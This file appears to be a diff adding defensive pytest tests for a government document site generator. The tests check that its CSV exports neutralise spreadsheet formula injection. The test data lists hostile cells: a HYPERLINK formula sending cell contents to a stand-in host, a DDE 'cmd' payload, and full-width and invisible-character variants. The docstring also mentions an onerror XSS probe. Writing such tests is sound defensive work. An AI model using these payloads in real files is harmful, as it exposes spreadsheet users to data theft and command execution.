@@ -1,0 +1,78 @@
+"""Round twenty-seven (d) of the adversarial review (issue 24): what the public receives — site/'s pages, search
+files and the search box in a real browser, sitemap, feeds, the CSV and JSON exports, the 404 page, the print
+view, `disclosure report`'s files. Each test goes through the real command (`mkdocs build --strict`) and failed on
+main (208ca25) before its fix.
+
+Fixed —
+- (pages/exports.py `runs_as_formula`) a CSV cell a spreadsheet may run as a formula though it starts with no ASCII
+  = + - @ tab or CR: the full-width and small forms a Chinese input method types (＝HYPERLINK(…), ＋cmd|…, ＠SUM(…),
+  －…, ﹦ ﹢ ﹣ ﹫; Excel and WPS in a Chinese or Japanese locale take them for the ASCII signs), and any sign after
+  blanks or characters drawn as nothing (a leading space, ideographic space, zero-width space, byte-order mark,
+  direction mark: what LibreOffice's and Google Sheets' import trim). A title, 发布机构 or 主题 so written went into
+  catalogue.csv (and `disclosure report`'s and `disclosure import --report`'s CSVs, which quote with the same
+  function) as it was, exit 0. Now prefixed with ' as the ASCII signs are; the merge refuses such a cell in a unit's
+  catalogue.csv (E700, the same predicate).
+
+Tried and held (no change needed) —
+- Material's search.highlight (`?h=img`, `?h=onerror` on a page whose code span shows `<img … onerror=…>`): the
+  marked text is escaped again, the code stays text, no element is made;
+- a 不予公开 document's body, 摘要, 主题, 发布机构 and 文号: in no file of site/ (pages, search rows, passages, term
+  shards, t2s.json, MkDocs' search_index.json, which holds no documents); a word of search-dict.txt that no public
+  document uses is in no file either (the dictionary is read by the build, never published);
+- the print view hides only navigation (header, tabs, sidebars, pager, reading aids): nothing hidden on screen is
+  printed.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from disclosure.pages.exports import formula_cell, spreadsheet_text
+
+from .sitekit import build, front_matter, interpretation, policy, write_site
+
+# What a spreadsheet may read as a formula: the full-width and small signs, and signs after blanks or invisible marks.
+FORMULA_CELLS = ["＝HYPERLINK(\"http://e.example/?\"&A1,\"详情\")", "＋cmd|' /C calc'!A0", "－2+3", "＠SUM(1,2)",
+                 "﹦1+1", "﹢1", "﹣1", "﹫A1", " =1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff+1", "\u200e@A1", "\u00a0-1"]
+PLAIN_CELLS = ["测试县食品小作坊登记管理办法", "2024年", "（一）总则", "−2（减号）", "——说明", "＃1", ""]
+
+
+@pytest.mark.parametrize("cell", FORMULA_CELLS)
+def test_a_cell_a_spreadsheet_may_run_is_quoted_and_refused_in_a_units_export(cell):
+    assert spreadsheet_text(cell) == "'" + cell
+    assert formula_cell(_csv_line(cell)) == cell
+
+
+@pytest.mark.parametrize("cell", PLAIN_CELLS)
+def test_an_ordinary_cell_stays_as_written(cell):
+    assert spreadsheet_text(cell) == cell
+    assert formula_cell(_csv_line(cell)) is None
+
+
+def _csv_line(cell: str) -> io.StringIO:
+    """A unit's catalogue.csv row holding `cell` unquoted (as a compromised job writes it), read as the merge reads."""
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer).writerow(["T001/2024-00001", cell])
+    buffer.seek(0)
+    return buffer
+
+
+def test_full_width_formula_signs_in_front_matter_are_quoted_in_catalogue_csv(tmp_path):
+    title = "＝HYPERLINK(\"http://e.example/?\"&A1,\"详情\")测试县食品小作坊登记管理办法"
+    files = {"policies/a.md": policy(title=title, topics=["＋cmd|' /C calc'!A0"], publisher="＠测试县市场监督管理局"),
+             "interpretations/a.md": interpretation(),
+             "notices/b.md": front_matter("正文。\n", title="﹦1+1关于开展工作的通知", type="notice",
+                                          index_no="T001/2024-00003", published="2024-03-06")}
+    root = write_site(tmp_path / "site", files)
+    run = build(root)
+    assert run.returncode == 0, run.output
+    rows = list(csv.DictReader(io.StringIO((root / "site" / "catalogue.csv").read_text("utf-8-sig"), newline="")))
+    policy_row = next(row for row in rows if row["索引号"] == "T001/2024-00001")
+    notice_row = next(row for row in rows if row["索引号"] == "T001/2024-00003")
+    assert policy_row["标题"] == "'" + title
+    assert policy_row["主题分类"] == "'＋cmd|' /C calc'!A0"
+    assert policy_row["发布机构"] == "'＠测试县市场监督管理局"
+    assert notice_row["标题"] == "'﹦1+1关于开展工作的通知"
